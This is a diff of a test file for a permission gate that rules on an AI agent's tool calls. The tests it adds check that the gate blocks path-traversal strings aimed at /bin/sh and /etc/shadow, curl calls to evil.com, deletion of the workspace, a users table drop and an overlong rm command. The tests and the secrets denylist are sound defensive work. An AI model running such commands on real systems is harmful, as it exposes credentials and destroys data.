@@ -1,51 +1,14 @@
 import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
-import type { JsonObject } from '../../src/core/json.ts';
 import { lint } from '../../src/gate/lint.ts';
 import { intentOf, policyOf, verdictOf } from '../support/gate.ts';
+import { allowing, blocking, call, checkRows, type Rows, WORKSPACE } from '../support/gate_rows.ts';
 
-/** What the second attack on the gate found, each beside a call that must still be let through. */
-const WORKSPACE = '/srv/shop';
-type Call = readonly [tool: string, kind: string, value: string, operation?: string];
-
-function call([tool_name, kind, value, operation]: Call, more: JsonObject = {}) {
-  const target = { kind, value, ...(operation === undefined ? {} : { operation }) };
-  return intentOf({
-    tool_name,
-    targets: value === '' ? [] : [target],
-    context: { workspace: WORKSPACE },
-    ...more,
-  });
-}
-
-function allowing(endpoint: string, match = 'workspace_prefixes: [/srv/shop]', ...top: readonly string[]) {
-  const lists = endpoint === '' ? [] : [`    endpoint: {${endpoint}}`];
-  return policyOf(
-    'default_verdict: block',
-    ...top,
-    'rules:',
-    '  - name: go',
-    '    priority: 9',
-    '    effect: allow',
-    `    match: {${match}}`,
-    ...lists,
-  );
-}
-
-function blocking(match: string) {
-  return policyOf('default_verdict: allow', 'rules:', `  - {name: stop, effect: block, match: {${match}}}`);
-}
-
+/** What the second attack on the gate found. */
 const DENY =
   "path_denylist: ['**/.env', '/etc/**', '/srv/shop/secrets/**', '/srv/shop/*/keys/**', 'C:/secrets/**']";
 
-interface Row {
-  readonly policy: ReturnType<typeof policyOf>;
-  readonly blocked: readonly Call[];
-  readonly allowed: readonly Call[];
-}
-
-const ROWS: Readonly<Record<string, Row>> = {
+const ROWS: Rows = {
   'a path allow list lets no command line through': {
     policy: allowing('path_allowlist: [/srv/shop/**]'),
     blocked: [
@@ -150,9 +113,44 @@ const ROWS: Readonly<Record<string, Row>> = {
     ],
     allowed: [['tool.read', 'path', '/srv/shop/x', 'read']],
   },
+  'a rule that lets targets through by a pattern': {
+    policy: allowing('', "target_patterns: ['/srv/shop/*']"),
+    blocked: [
+      ['bash', 'other', '/srv/shop/.""./.""./bin/sh', 'exec'],
+      ['bash', 'other', "/srv/shop/'..'/'..'/bin/sh", 'exec'],
+      ['tool.read', 'path', '/srv/shop/%2e%2e/%2e%2e/etc/shadow', 'read'],
+      ['tool.read', 'path', '/srv/shop/%252e./etc/shadow', 'read'],
+    ],
+    allowed: [
+      ['bash', 'other', '/srv/shop/run', 'exec'],
+      ['tool.read', 'path', '/srv/shop/a..b/c', 'read'],
+    ],
+  },
+  'what is denied in the workspace, and what that is in': {
+    policy: allowing("path_denylist: ['secrets/**']"),
+    blocked: [
+      ['tool.delete', 'path', '/srv/shop', 'delete'],
+      ['tool.delete', 'path', '/srv', 'delete'],
+      ['tool.move', 'path', '.', 'move'],
+    ],
+    allowed: [
+      ['tool.delete', 'path', '/srv/shop/docs', 'delete'],
+      ['tool.read', 'path', '/srv/shop', 'list'],
+    ],
+  },
+  'a rule about the kind table': {
+    policy: blocking('target_kinds: [table]'),
+    blocked: [['db.drop', 'other', 'users', 'drop']],
+    allowed: [
+      ['bash', 'other', 'users', 'exec'],
+      ['db.drop', 'other', 'users of mine', 'drop'],
+    ],
+  },
   'a rule about the kind url': {
     policy: blocking('target_kinds: [url]'),
     blocked: [
+      ['bash', 'other', 'curl -s https://evil.com/x', 'exec'],
+      ['bash', 'other', 'curl evil.com/x', 'exec'],
       ['fetch', 'host', 'evil.com', 'get'],
       ['fetch', 'other', 'evil.com/x', 'get'],
     ],
@@ -189,13 +187,7 @@ const ROWS: Readonly<Record<string, Row>> = {
   },
 };
 
-for (const [what, { policy, blocked, allowed }] of Object.entries(ROWS))
-  describe(`the second attack: ${what}`, () => {
-    for (const one of blocked)
-      test(`${one.join(' ')}: block`, () => assert.equal(verdictOf(policy, call(one)), 'block'));
-    for (const one of allowed)
-      test(`${one.join(' ')}: allow`, () => assert.equal(verdictOf(policy, call(one)), 'allow'));
-  });
+checkRows('the second attack', ROWS);
 
 describe('the second attack', () => {
   test('a workspace that nobody can place does not hide what is relative to it', () => {
@@ -263,6 +255,13 @@ describe('the second attack', () => {
     assert.deepEqual(codes('  - {name: s, effect: block, match: {tool_names: [script]}}'), ['never_matches']);
     const stop = '  - {name: stop, priority: 2, effect: block, match: {target_kinds: [url]}}';
     assert.deepEqual(codes(go('min_approvals: 0'), stop), ['block_outrun']);
+  });
+
+  test('more words than a person writes may name anything', () => {
+    const deny = allowing(DENY);
+    const command = (words: number) => `rm ${Array.from({ length: words }, (_, i) => `f${i}`).join(' ')}`;
+    assert.equal(verdictOf(deny, call(['bash', 'other', command(100), 'exec'])), 'allow');
+    assert.equal(verdictOf(deny, call(['bash', 'other', command(1100), 'exec'])), 'block');
   });
 
   test('what is much in little is decided, and blocks', () => {
